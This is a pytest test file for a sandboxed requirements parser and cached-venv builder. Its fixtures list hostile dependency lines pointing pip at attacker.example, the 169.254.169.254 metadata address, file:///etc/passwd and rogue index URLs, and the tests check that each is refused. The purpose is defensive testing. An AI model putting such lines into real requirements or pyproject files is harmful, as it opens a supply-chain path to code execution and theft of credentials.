"""Declared requirements and the per-repo cached environment, built in the sandbox."""

from __future__ import annotations

import os
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

from bot.sandbox import Sandbox
from bot.sandbox.bubblewrap import find_bwrap, probe
from bot.sandbox.runner import SandboxResult
from bot.sandbox.trust import Strength
from bot.sandbox.venv import declared_requirements, ensure_venv, unsatisfied

needs_bwrap = pytest.mark.skipif(
    find_bwrap() is None or probe(find_bwrap() or "", None) is not None,
    reason="bubblewrap is not usable on this machine",
)


def test_requirements_files_and_pyproject(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        "# runtime\nattrs>=21  # inline comment\n-r requirements-test.txt\n"
        "git+https://example.com/x.git\n-e .\n"
    )
    (tmp_path / "requirements-test.txt").write_text("pytest\n")
    (tmp_path / "requirements-docs.txt").write_text("sphinx\n")
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "demo"\ndependencies = ["packaging>=20"]\n'
        '[project.optional-dependencies]\ntest = ["hypothesis", "demo[extra]"]\n'
        'docs = ["mkdocs"]\n'
    )
    found = declared_requirements(tmp_path)
    assert sorted(found.requirements) == ["attrs>=21", "hypothesis", "packaging>=20", "pytest"]
    assert "requirements-docs.txt" not in found.sources
    assert len(found.unsupported) == 2
    assert all("ignored" in item for item in found.unsupported)


def test_setup_py_is_not_executed(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text("raise SystemExit('must not run')\n")
    found = declared_requirements(tmp_path)
    assert found.requirements == []
    assert "setup.py" in found.unsupported[0]


def test_what_the_worker_already_has_is_not_installed() -> None:
    assert unsatisfied(["pytest", "coverage>=5", "hypothesis"]) == []
    assert unsatisfied(["pytest<1", "no-such-dist-shunter"]) == ["pytest<1", "no-such-dist-shunter"]
    assert unsatisfied(['pytest<1; python_version < "3"']) == []


@pytest.fixture
def offline_pip(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """pip pointed at a local index only, so the test needs no network."""
    index = Path("/opt/pypi/simple")
    if not index.is_dir():
        index = tmp_path / "empty-index"
        index.mkdir()
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_INDEX_URL", f"file://{index}")
    monkeypatch.delenv("PIP_FIND_LINKS", raising=False)
    monkeypatch.delenv("PIP_EXTRA_INDEX_URL", raising=False)
    return index


@needs_bwrap
def test_missing_dependency_is_named(offline_pip: Path, tmp_path: Path) -> None:
    box = Sandbox.for_pr(trusted_author=True, run_untrusted=False)
    result = ensure_venv(["shunter-no-such-dist==1.0"], sandbox=box, cache_root=tmp_path / "c", time_limit=60)
    assert not result.ok
    assert result.failed == ["shunter-no-such-dist==1.0"]
    assert "could not install shunter-no-such-dist==1.0" in result.note
    assert not any(p.name.startswith(".build") for p in (tmp_path / "c").iterdir())


@needs_bwrap
def test_dependency_installed_once_then_cached(offline_pip: Path, tmp_path: Path) -> None:
    if not (offline_pip / "appdirs").is_dir():
        pytest.skip("the local package index has no appdirs wheel")
    box = Sandbox.for_pr(trusted_author=True, run_untrusted=False)
    first = ensure_venv(["appdirs"], sandbox=box, cache_root=tmp_path / "c", time_limit=60)
    assert first.ok and not first.cached, first.note
    second = ensure_venv(["appdirs"], sandbox=box, cache_root=tmp_path / "c", time_limit=60)
    assert second.ok and second.cached and second.python == first.python
    work = tmp_path / "w"
    work.mkdir()
    box.prepare(work)
    check = box.run(
        [second.python, "-c", "import appdirs, pytest, hypothesis; print('ok')"],
        work,
        extra_ro_paths=second.ro_paths,
    )
    assert check.ok and check.stdout_tail.strip() == "ok", check.stderr_tail
    tamper = box.run(
        [second.python, "-c", f"open({second.python!r} + '.x', 'w')"],
        work,
        extra_ro_paths=second.ro_paths,
    )
    assert tamper.exit_code == 1  # the cached venv is read-only to sandboxed code


# --------------------------------------------------------------------------- index only
# The install step has the host network; a fork PR controls requirements*.txt and
# pyproject.toml, so nothing it declares may point pip at a host or index of its choosing.

_HOSTILE_PYPROJECT = """\
[project]
name = "demo"
dependencies = [
    "ok-dep>=1",
    "evil @ http://169.254.169.254/latest/meta-data/evil-1.0-py3-none-any.whl",
    "evil-file @ file:///etc/passwd",
    "evil-rel @ file:evil.whl",
    "evil-vcs @ git+https://attacker.example/x.git",
    "evil.whl",
]
[project.optional-dependencies]
test = ["ok-test", "evil-extra @ https://attacker.example/e-1.0-py3-none-any.whl"]
"""

_HOSTILE_REQUIREMENTS = """\
ok-req==2
evil-txt @ file:evil-1.0-py3-none-any.whl
--index-url http://attacker.example/simple
--extra-index-url=http://attacker.example/simple
-i http://attacker.example/simple
-f http://attacker.example/wheels
--find-links /tmp
-c constraints.txt
-e git+https://attacker.example/x.git#egg=x
./local-dir
/abs/path
~/home-path
evil-1.0-py3-none-any.whl
"""


def test_pyproject_direct_urls_are_ignored_like_requirement_files(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(_HOSTILE_PYPROJECT)
    (tmp_path / "requirements.txt").write_text(_HOSTILE_REQUIREMENTS)
    found = declared_requirements(tmp_path)
    assert sorted(found.requirements) == ["ok-dep>=1", "ok-req==2", "ok-test"]
    # every refused line is listed (the tests stage reports them as "ignored requirement")
    assert len(found.unsupported) == 6 + 12
    assert all("ignored" in item for item in found.unsupported), found.unsupported
    assert any(item.startswith("pyproject.toml: evil @ http://169.254.169.254") for item in found.unsupported)
    for line in found.requirements:
        assert "://" not in line and "file:" not in line and not line.startswith("-")


def test_only_plain_requirements_reach_pip_in_canonical_form(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "demo"\ndependencies = [\'Attrs [tests] (>=21) ; python_version >= "3"\']\n'
    )
    assert declared_requirements(tmp_path).requirements == ['Attrs[tests]>=21; python_version >= "3"']


class _RecordingSandbox:
    """Stands in for the sandbox: records what would run, never runs it."""

    def __init__(self) -> None:
        self.commands: list[list[str]] = []

    def prepare(self, workdir: Path) -> None:
        pass

    def run(self, command: list[str], workdir: Path, **_: object) -> SandboxResult:
        self.commands.append(command)
        return SandboxResult(command, 1, "", "ERROR: recorded only", False, None, Strength.BUBBLEWRAP, 0.0)


@pytest.mark.parametrize(
    "line",
    [
        "evil @ http://127.0.0.1:9/evil-1.0-py3-none-any.whl",
        "evil @ file:evil.whl",
        "--index-url=http://127.0.0.1:9/simple",
        "evil-1.0-py3-none-any.whl",
    ],
)
def test_ensure_venv_refuses_what_is_not_a_plain_requirement(tmp_path: Path, line: str) -> None:
    box = _RecordingSandbox()
    result = ensure_venv([line], sandbox=box, cache_root=tmp_path / "c", time_limit=10)  # type: ignore[arg-type]
    assert not result.ok
    assert result.failed == [line]
    assert box.commands == []


def test_pip_reads_requirements_after_end_of_options(tmp_path: Path) -> None:
    box = _RecordingSandbox()
    result = ensure_venv(["shunter-no-such-dist==1.0"], sandbox=box, cache_root=tmp_path / "c", time_limit=10)  # type: ignore[arg-type]
    assert not result.ok
    (command,) = box.commands
    assert command[command.index("--") + 1 :] == ["shunter-no-such-dist==1.0"]


@needs_bwrap
def test_install_step_makes_no_request_for_a_pyproject_url(offline_pip: Path, tmp_path: Path) -> None:
    """The reviewer's probe: a fork PR's pyproject URL made the install step fetch it."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        repo = tmp_path / "repo"
        repo.mkdir()
        (repo / "pyproject.toml").write_text(
            '[project]\nname = "x"\ndependencies = '
            f'["evil2 @ http://127.0.0.1:{port}/internal/evil2-1.0-py3-none-any.whl"]\n'
        )
        declared = declared_requirements(repo)
        box = Sandbox.for_pr(trusted_author=False, run_untrusted=True)
        ensure_venv(declared.requirements, sandbox=box, cache_root=tmp_path / "c", time_limit=60)
    finally:
        server.shutdown()
        server.server_close()
    assert hits == []
